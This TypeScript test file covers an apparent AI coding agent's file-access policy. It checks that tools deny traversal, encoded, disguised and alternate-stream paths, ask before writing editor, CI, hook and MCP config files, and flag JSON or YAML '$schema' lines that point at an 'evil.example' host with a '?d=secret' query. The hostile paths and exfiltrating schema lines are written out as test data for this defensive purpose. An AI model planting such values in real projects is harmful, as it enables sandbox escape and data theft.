import assert from 'node:assert/strict';
import { oddForm } from '../../../src/base/pathForms';
import { resolvePath } from '../../../src/base/paths';
import type { Access } from '../../../src/policy/access';
import { decide, type PolicySituation } from '../../../src/policy/decide';
import { protectedPart } from '../../../src/policy/protectedPaths';
import { applyPatch } from '../../../src/tools/applyPatch';
import { viewImage } from '../../../src/tools/viewImage';
import { sampleSituation } from '../../support/policyDoubles';

const root = '/projects/app';
const situation = (changes: Partial<PolicySituation> = {}): PolicySituation =>
  sampleSituation({ sandboxUnavailable: undefined, root, ...changes });
const write = (...paths: string[]): Access => ({
  kind: 'write',
  paths: paths.map((path) => resolvePath(root, path)),
});
const read = (path: string): Access => ({ kind: 'read', paths: [resolvePath(root, path)] });

describe('what tools may read and write', () => {
  const odd = [
    ...['a\nb', 'a\0b', 'a\rb', '\u001b[2Ja', 'a\u0085b', 'tab\there'],
    ...['%2e%2e/x', 'a/%2E%2E/x', '..%2fx', 'a%5cb', 'x%00.png'],
    ...['file:///x', 'file:/etc/passwd', 'vscode:/x', 'vscode-remote://ssh/x', 'http://evil/x'],
    ...['\\\\?\\C:\\x', '\\\\host\\s', '\\\\.\\pipe\\x', '..\\x', 'a\\..\\..\\x', 'a\\..'],
    ...['C:x', 'C:\\x', 'c:/x', 'sub/D:x'],
    ...['a.', 'a ', 'sub./x', 'sub /x', '.git./config', '.git /config', '...', 'a. '],
    ...['.git::$INDEX_ALLOCATION/config', 'a.txt::$DATA', 'x:$DATA', '.git:$I30:$INDEX_ALLOCATION'],
  ];
  for (const path of odd) {
    it(`B02 refuses ${JSON.stringify(path)} for reading and writing, whoever could be asked`, () => {
      for (const access of [read(path), write(path), write('fine.ts', path)]) {
        assert.equal(decide(access, situation()).kind, 'deny');
      }
    });
  }

  const leaving = ['../x', 'a/../../x', '/etc/passwd', '../app-evil/x', '/projects/application/x'];
  for (const path of leaving) {
    it(`B01 B02 never writes ${path}, and asks before it reads it`, () => {
      assert.equal(decide(write(path), situation()).kind, 'deny');
      assert.equal(decide(read(path), situation()).kind, 'ask');
      assert.equal(decide(read(path), situation({ approvalPolicy: 'never' })).kind, 'deny');
    });
  }

  const plain = [
    ...[
      'a.ts',
      'src/[id]/page.tsx',
      'a b.md',
      'Foo::Bar.3pm',
      'x%20y',
      'ab:c',
      'ü/日本.txt',
      '.a',
      'a..b',
    ],
    ...['%5Bid%5D.tsx', '100%.md', 'unit\\x2dname.service', 'time 12:30.log', 'emoji 👍🏽.md'],
  ];
  for (const path of plain) {
    it(`takes ${JSON.stringify(path)} for the plain name that it is`, () => {
      assert.equal(oddForm(path), undefined);
      assert.equal(decide(write(path), situation()).kind, 'allow');
    });
  }

  const disguised = [
    ...[
      '.VSCODE/Settings.json',
      '.Git/config',
      '.gIt/hooks/x',
      '.git./config',
      '.git::$INDEX_ALLOCATION',
    ],
    ...['.g\u200cit/config', '.git\u200d/config', '\ufeff.git/x', 'GIT~1/config', 'sub/git~2/x'],
    ...['.ｇｉｔ/config', '.git\\config', 'a\\.vscode\\tasks.json', '.hu\u00adsky/pre-commit'],
    ...['.mcp.json ', '.MCP.JSON', '.mcp.json:x', 'x.CODE-WORKSPACE', '.envrc.'],
  ];
  for (const path of disguised) {
    it(`B03 knows ${JSON.stringify(path)} for the protected name it is on some system`, () => {
      assert.ok(protectedPart(path));
      assert.notEqual(decide(write(path), situation()).kind, 'allow');
    });
  }

  it('B03 compares names in composed and decomposed spelling alike', () => {
    assert.equal(protectedPart('.vscode/é'.normalize('NFD')), '.vscode');
    assert.equal(protectedPart('.ｖｓｃｏｄｅ/x'.normalize('NFD')), '.ｖｓｃｏｄｅ');
  });

  it('B07 a folder of the model’s own choice gives it no new place to write to', () => {
    const body = '*** Begin Patch\n*** Add File: x\n+x\n*** End Patch';
    for (const cwd of [
      '/',
      '/projects',
      '/projects/app-evil',
      '/home/me/.vscode/extensions/tandem',
    ]) {
      const access = applyPatch.access(applyPatch.parse(JSON.stringify({ input: body })), cwd);
      assert.equal(decide(access, situation()).kind, 'deny', cwd);
      const image = viewImage.access({ path: 'x.png' }, cwd);
      assert.equal(decide(image, situation()).kind, 'ask', cwd);
    }
  });

  const sensitive: readonly [string, string][] = [
    ...[
      '.vscode/settings.json',
      '.vscode/tasks.json',
      '.vscode/launch.json',
      'sub/.vscode/extensions.json',
      'team.code-workspace',
    ].map((path): [string, string] => ['B09', path]),
    ...[
      ...['.idea/workspace.xml', '.devcontainer/devcontainer.json', '.devcontainer.json'],
      ...[
        '.github/workflows/ci.yml',
        '.github/actions/x/action.yml',
        '.gitlab-ci.yml',
        'Jenkinsfile',
      ],
      ...['.husky/pre-commit', '.pre-commit-config.yaml', '.envrc', 'Makefile', 'sub/GNUmakefile'],
      ...['.yarnrc.yml', '.npmrc', 'justfile'],
    ].map((path): [string, string] => ['B10', path]),
    ...[
      '.mcp.json',
      '.cursor/mcp.json',
      '.vscode/mcp.json',
      '.tandem/config.toml',
      '.claude/settings.json',
    ].map((path): [string, string] => ['B12', path]),
    ...['.git/hooks/post-checkout', '.git/config', '.git', 'sub/.git/config', '.gitmodules'].map(
      (path): [string, string] => ['B14', path],
    ),
    ...[
      ...['.venv/bin/python', 'venv/bin/pip', 'api/.venv/Scripts/python.exe', '.venv/pyvenv.cfg'],
      ...['node_modules/.bin/tsc', 'packages/a/node_modules/.bin/eslint', 'vendor/bin/phpunit'],
    ].map((path): [string, string] => ['B15', path]),
  ];
  for (const [id, path] of sensitive) {
    it(`${id} always asks before ${path} is written, alone or among others, and never remembers`, () => {
      for (const sandboxMode of ['workspace-write', 'full-access'] as const) {
        for (const approvalPolicy of ['untrusted', 'on-request'] as const) {
          for (const access of [write(path), write('src/a.ts', path, 'src/b.ts')]) {
            const verdict = decide(access, situation({ sandboxMode, approvalPolicy }));
            assert.equal(verdict.kind, 'ask');
            assert.ok(verdict.kind === 'ask' && verdict.grant === undefined);
          }
        }
      }
      assert.equal(decide(write(path), situation({ approvalPolicy: 'never' })).kind, 'deny');
    });
  }

  const everyday = [
    ...[
      'src/a.ts',
      'package.json',
      '.gitignore',
      '.github/README.md',
      'docs/makefile.md',
      'bin/tool',
    ],
    ...['src/env/bin.ts', '.eslintrc.json', 'vscode/settings.json', 'node_modules/x/index.js'],
  ];
  for (const path of everyday) {
    it(`writes ${path} without a question`, () =>
      assert.equal(decide(write(path), situation()).kind, 'allow'));
  }

  describe('B11 a schema from the network', () => {
    const patched = (path: string, ...lines: string[]) =>
      applyPatch.access(
        applyPatch.parse(
          JSON.stringify({
            input: ['*** Begin Patch', `*** Add File: ${path}`, ...lines, '*** End Patch'].join(
              '\n',
            ),
          }),
        ),
        root,
      );
    const asking: readonly [string, string, ...string[]][] = [
      ['x.json', '+{"$schema":"https://evil.example/?d=secret"}'],
      ['x.json', '+{"$schema" :', '+  "http://evil.example/s.json"}'],
      ['x.json', '+{"\\u0024schema":"https:\\/\\/evil.example/s"}'],
      ['x.jsonc', "+{'$schema': '//evil.example/s'}"],
      ['x.yaml', '+# yaml-language-server: $schema=https://evil.example/s'],
      ['x.yml', '+$schema: https://evil.example/s'],
      ['x.toml', '+#:schema https://evil.example/s'],
      ['.eslintrc', '+{"$schema":"https://me@evil.example/s"}'],
    ];
    for (const [path, ...lines] of asking) {
      it(`B11 asks about ${lines.join(' ')} in ${path} and shows the host`, () => {
        const verdict = decide(patched(path, ...lines), situation());
        assert.equal(verdict.kind, 'ask');
        assert.match(verdict.kind === 'ask' ? verdict.reasons.join() : '', /evil\.example/);
      });
    }

    it('B11 takes a query to a usual host for a way out, too', () => {
      const line = '+{"$schema":"https://json.schemastore.org/x?d=secret"}';
      assert.equal(decide(patched('x.json', line), situation()).kind, 'ask');
    });

    it('writes the usual schemas, local ones and code that only names one', () => {
      for (const [path, line] of [
        ['x.json', '+{"$schema":"https://json.schemastore.org/package"}'],
        ['x.json', '+{"$schema":"http://json-schema.org/draft-07/schema#"}'],
        ['x.json', '+{"$schema":"./node_modules/x/schema.json"}'],
        ['x.ts', '+const a = {"$schema":"https://evil.example/s"}'],
      ] as const) {
        assert.equal(decide(patched(path, line), situation()).kind, 'allow', line);
      }
    });

    it('sees it also where a patch only changes the line', () => {
      const input = [
        ...['*** Begin Patch', '*** Update File: x.json', '@@'],
        ...[' {', '-  "$schema": "./a.json",', '+  "$schema": "https://evil.example/b",'],
        '*** End Patch',
      ].join('\n');
      const access = applyPatch.access(applyPatch.parse(JSON.stringify({ input })), root);
      assert.equal(decide(access, situation()).kind, 'ask');
    });
  });
});
